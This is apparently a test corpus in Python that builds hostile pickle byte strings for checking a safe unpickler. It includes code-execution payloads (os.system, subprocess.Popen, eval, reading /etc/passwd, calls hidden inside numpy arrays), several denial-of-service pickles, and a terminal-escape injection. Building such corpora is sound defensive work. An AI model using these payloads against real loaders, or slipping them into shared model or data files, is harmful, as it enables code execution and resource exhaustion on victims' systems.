"""Hostile pickles, each made by a few lines that show the trick."""

from __future__ import annotations

import struct
from collections.abc import Callable

PROTO = b"\x80\x04"


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def name(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"


def call(module: str, attribute: str, argument: str = "touch /tmp/owned") -> bytes:
    """A REDUCE of any function on one string."""
    return PROTO + name(module, attribute) + text(argument) + b"\x85R."


def binary_dtype(code: bytes = b"f4") -> bytes:
    return (
        b"cnumpy\ndtype\nU" + bytes([len(code)]) + code + b"K\x00K\x01\x87R"
        b"(K\x03U\x01<NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    )


def array(shape: bytes, data: bytes, dtype: bytes | None = None) -> bytes:
    """An array whose shape and data (opcodes) may contradict each other."""
    return (
        b"cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85U\x01b\x87R"
        b"(K\x01" + shape + (dtype or binary_dtype()) + b"\x89" + data + b"tb"
    )


def long_integer(value: int) -> bytes:
    data = value.to_bytes(16, "little", signed=True)
    return b"\x8a\x10" + data


def attributes(**values: bytes) -> bytes:
    return b"}(" + b"".join(text(key) + value for key, value in values.items()) + b"ub"


def instance(module: str, cls: str, **values: bytes) -> bytes:
    return name(module, cls) + b")\x81" + attributes(**values)


def many(opcodes: bytes, times: int = 1_000_000) -> bytes:
    return PROTO + opcodes * times + b"."


def laughs(empty: bytes, doubled: bytes, levels: int = 60) -> bytes:
    """A container of two of a container of two of ...: 2^levels things in a few bytes."""
    return (
        PROTO
        + empty
        + b"\x94"
        + b"".join(
            doubled.replace(b"<get>", b"h" + bytes([level])) + b"\x94" for level in range(levels)
        )
    )


def colliding_keys(key: Callable[[int], bytes], count: int = 60_000) -> bytes:
    """A dict whose keys all have the same hash, were they hashed."""
    return PROTO + b"}(" + b"".join(key(i) + b"N" for i in range(count)) + b"u."


def inside_out(open_: bytes, close: bytes, depth: int = 300_000) -> bytes:
    """Nesting that never has more than two things on the stack."""
    return PROTO + b"N" + (open_ + close) * depth + b"."


def repeated_array(times: int = 20_000) -> bytes:
    """One megabyte of data, memoised, made an array again and again."""
    megabyte = b"T" + struct.pack("<i", 1 << 20) + bytes(1 << 20) + b"q\x07"
    one = array(b"J\x00\x00\x04\x00\x85", b"h\x07")
    return b"\x80\x02" + megabyte + b"0](" + one * times + b"e."


def quadratic_build() -> bytes:
    """One state of 60,000 attributes, given to 60,000 objects and twice to each."""
    entries = b"".join(text(f"a{i}") + b"N" for i in range(60_000))
    state = b"}(" + entries + b"u\x94"
    one = b"h\x01)\x81h\x00bh\x00b0"
    return PROTO + state + b"0" + name("m", "C") + b"\x940" + one * 60_000 + b"N."


def object_array_of_calls() -> bytes:
    objects = binary_dtype(b"O8").replace(b"U\x01<", b"U\x01|")
    inner = name("os", "system") + text("touch /tmp/owned") + b"\x85R"
    return b"\x80\x02" + array(b"K\x01\x85", b"]" + inner + b"a", objects) + b"."


def hidden_behind_parameters() -> bytes:
    """A good list of parameters that calls something on the way."""
    good = array(b"K\x02\x85", b"U\x08" + bytes(8))
    return b"\x80\x02](" + good + name("posix", "system") + text("id") + b"\x85Re."


PICKLES: dict[str, Callable[[], bytes]] = {
    # Asking for calls, in all the ways that pickles have
    "os_system_protocol_0": lambda: b"cos\nsystem\n(S'touch /tmp/owned'\ntR.",
    "os_system_inst": lambda: b"(S'touch /tmp/owned'\nios\nsystem\n.",
    "os_system_inst_no_arguments": lambda: b"(ios\ngetcwd\n.",
    "os_system_obj": lambda: b"(cos\nsystem\nS'touch /tmp/owned'\no.",
    "user_class_called_by_inst": lambda: b"(S'touch /tmp/owned'\nimymodule\nrun\n.",
    "posix": lambda: call("posix", "system"),
    "nt": lambda: call("nt", "system"),
    "commands_of_python_2": lambda: call("commands", "getoutput"),
    "eval": lambda: call("builtins", "eval", "__import__('os').getcwd()"),
    "exec_of_python_2": lambda: b"c__builtin__\nexecfile\n(S'x.py'\ntR.",
    "import": lambda: call("builtins", "__import__", "antigravity"),
    "open": lambda: call("io", "open", "/etc/passwd"),
    "popen_new_object": lambda: PROTO + name("subprocess", "Popen") + text("id") + b"\x85\x81.",
    "new_object_with_keywords": lambda: (
        PROTO + name("subprocess", "Popen") + text("id") + b"\x85}\x92."
    ),
    "reconstructor": lambda: b"ccopy_reg\n_reconstructor\n(cos\nsystem\nc__builtin__\nobject\nNtR.",
    "getattr_then_call": lambda: (
        PROTO
        + name("builtins", "getattr")
        + name("numpy", "ndarray")
        + text("tofile")
        + b"\x86R"
        + text("/tmp/owned")
        + b"\x85R."
    ),
    "partial_then_call": lambda: (
        PROTO + name("functools", "partial") + name("m", "f") + b"\x85R)R."
    ),
    "attrgetter_then_call": lambda: (
        PROTO + name("operator", "attrgetter") + text("system") + b"\x85R" + text("x") + b"\x85R."
    ),
    "numpy_runstring": lambda: call("numpy.testing._private.utils", "runstring", "1"),
    "numpy_load": lambda: call("numpy", "load", "/tmp/other.npy"),
    "dotted_name": lambda: call("numpy", "core.os.system"),
    "theano_callable": lambda: call("theano.compile.function_module", "function"),
    "marshal": lambda: call("marshal", "loads"),
    "codec_zlib": lambda: (
        PROTO + name("_codecs", "encode") + b"C\x03abc" + text("zlib") + b"\x86R."
    ),
    "codec_decode": lambda: call("_codecs", "decode"),
    "call_of_a_string": lambda: PROTO + text("os.system") + text("id") + b"\x85R.",
    "call_of_a_record": lambda: PROTO + name("m", "C") + b")\x81)R.",
    "extension_registry": lambda: PROTO + b"\x82\x01.",
    "persistent_id": lambda: PROTO + text("ndarray.W") + b"Q.",
    "persistent_id_protocol_0": lambda: b"Pfile:///etc/passwd\n.",
    "hidden_behind_parameters": hidden_behind_parameters,
    "object_array_of_calls": object_array_of_calls,
    # Claims
    "claims_terabyte_bytes": lambda: PROTO + b"\x8e" + struct.pack("<Q", 10**12) + b"abc.",
    "claims_terabyte_text": lambda: PROTO + b"\x8d" + struct.pack("<Q", 10**12) + b"abc.",
    "claims_terabyte_bytearray": lambda: b"\x80\x05\x96" + struct.pack("<Q", 10**12) + b"abc.",
    "claims_everything": lambda: PROTO + b"\x8e" + b"\xff" * 8 + b".",
    "claims_four_gigabytes": lambda: PROTO + b"B\xff\xff\xff\xff.",
    "claims_negative_string": lambda: b"T\xff\xff\xff\xff.",
    "claims_huge_frame": lambda: PROTO + b"\x95" + b"\xff" * 8 + b"N.",
    "claims_huge_long": lambda: PROTO + b"\x8b\xff\xff\xff\x7f" + b"\x7f" * 100 + b".",
    "claims_negative_long": lambda: PROTO + b"\x8b\xff\xff\xff\xff.",
    "array_claims_terabyte": lambda: (
        b"\x80\x02" + array(long_integer(10**12) + b"\x85", b"U\x04abcd") + b"."
    ),
    "array_overflowing_shape": lambda: (
        b"\x80\x02" + array(long_integer(1 << 62) * 2 + b"K\x00\x87", b"U\x00") + b"."
    ),
    "array_negative_shape": lambda: (
        b"\x80\x02" + array(b"J\xff\xff\xff\xffJ\xff\xff\xff\xff\x86", b"U\x04abcd") + b"."
    ),
    "array_of_objects_too_few": lambda: (
        b"\x80\x02" + array(long_integer(10**12) + b"\x85", b"](K\x01e", binary_dtype(b"O8")) + b"."
    ),
    "array_of_records": lambda: (
        b"\x80\x02" + array(b"K\x01\x85", b"U\x04abcd", binary_dtype(b"V4")) + b"."
    ),
    "array_with_huge_items": lambda: (
        b"\x80\x02" + array(b"K\x01\x85", b"U\x00", binary_dtype(b"S99999999999")) + b"."
    ),
    "array_state_is_a_number": lambda: (
        b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(I0\ntS'b'\ntRI5\nb."
    ),
    "array_with_100_axes": lambda: (
        b"\x80\x02" + array(b"(" + b"K\x01" * 100 + b"t", b"U\x04abcd") + b"."
    ),
    "out_of_band_buffer": lambda: b"\x80\x05\x97.",
    # Numbers
    "million_digits": lambda: b"I" + b"9" * 1_000_000 + b"\n.",
    "million_digits_long": lambda: b"L" + b"9" * 1_000_000 + b"L\n.",
    "four_thousand_digits_underscored": lambda: b"I1_000\n.",
    "float_of_a_megabyte": lambda: b"F" + b"9" * 1_000_000 + b"\n.",
    # Nesting
    "million_lists": lambda: PROTO + b"]" * 1_000_000 + b"a" * 999_999 + b".",
    "million_lists_protocol_0": lambda: b"(l" * 1_000_000 + b"a" * 999_999 + b".",
    "million_marks": lambda: many(b"("),
    "million_tuples": lambda: PROTO + b"N" + b"\x85" * 1_000_000 + b".",
    "tuples_inside_out": lambda: inside_out(b"", b"\x85"),
    "lists_inside_out": lambda: (
        PROTO
        + b"]\x94"
        + b"".join(b"]h\x00a\x94q\x000" for _ in range(1))
        + b"N"
        + b"0]h\x00aq\x00" * 300_000
        + b"."
    ),
    "dicts_inside_out": lambda: PROTO + b"}q\x00" + b"0}Nh\x00sq\x00" * 300_000 + b".",
    "objects_inside_out": lambda: (
        PROTO
        + name("m", "C")
        + b"q\x01)\x81q\x00"
        + b"0h\x01)\x81}X\x01\x00\x00\x00ah\x00sbq\x00" * 150_000
        + b"."
    ),
    "tuple_key_a_million_deep": lambda: PROTO + b"}N" + b"\x85" * 1_000_000 + b"Ns.",
    # Doubling
    "laughing_lists": lambda: laughs(b"]", b"](<get><get>e") + b".",
    "laughing_tuples": lambda: laughs(b"]", b"<get><get>\x86") + b".",
    "laughing_key": lambda: laughs(b")", b"<get><get>\x86") + b"}h\x3cNs.",
    "laughing_key_of_a_set": lambda: laughs(b")", b"<get><get>\x86") + b"\x8f(h\x3c\x90.",
    "laughing_frozensets": lambda: laughs(b")", b"(<get><get>\x85\x91") + b".",
    "laughing_arrays": lambda: (
        laughs(array(b"K\x02\x85", b"U\x08" + bytes(8)), b"](<get><get>e", 40) + b"."
    ),
    "list_in_itself": lambda: PROTO + b"]\x94h\x00a.",
    "object_in_itself": lambda: PROTO + name("m", "C") + b")\x81\x94}" + text("a") + b"h\x00sb.",
    # Much of something small
    "million_sets": lambda: many(b"\x8f"),
    "million_sets_in_a_list": lambda: PROTO + b"](" + b"\x8f0\x8f" * 400_000 + b"e.",
    "million_memo_entries": lambda: PROTO + b"N" + b"\x94" * 1_900_000 + b".",
    "million_copies_of_the_top": lambda: PROTO + b"N" + b"2" * 1_900_000 + b".",
    "million_dicts": lambda: PROTO + b"](" + b"}" * 240_000 + b"e.",
    "ten_million_opcodes": lambda: PROTO + b"N0" * 5_000_000 + b"N.",
    "million_pickles": lambda: b"N." * 1_000_000,
    "million_classes": lambda: b"".join(b"cm\nC%d\n0" % i for i in range(700_000)) + b"N.",
    "repeated_array": repeated_array,
    "quadratic_build": quadratic_build,
    # Hashes
    "colliding_integers": lambda: colliding_keys(lambda i: long_integer(i * ((1 << 61) - 1))),
    "colliding_tuples": lambda: colliding_keys(
        lambda i: long_integer(i * ((1 << 61) - 1)) + b"\x85"
    ),
    # Nonsense
    "empty_stack": lambda: PROTO + b".",
    "no_stop": lambda: PROTO + b"N",
    "unknown_opcode": lambda: PROTO + b"\xff.",
    "unknown_protocol": lambda: b"\x80\x63N.",
    "memo_of_nothing": lambda: PROTO + b"h\x05.",
    "append_to_nothing": lambda: PROTO + b"NNa.",
    "odd_items": lambda: PROTO + b"}(Nu.",
    "list_as_key": lambda: PROTO + b"}]Ns.",
    "pop_mark_without_mark": lambda: PROTO + b"1.",
    "names_that_clear_the_screen": lambda: call("m\x1b[2J\x1b]0;owned\x07", "f\nerror: none"),
    "surrogates": lambda: b"\x80\x04X\x03\x00\x00\x00\xff\xff\xff.",
    "bad_escape": lambda: b"S'\\xzz'\n.",
    "string_without_quotes": lambda: b"S'abc\n.",
    "nothing_of_use": lambda: PROTO + b"N.",
}
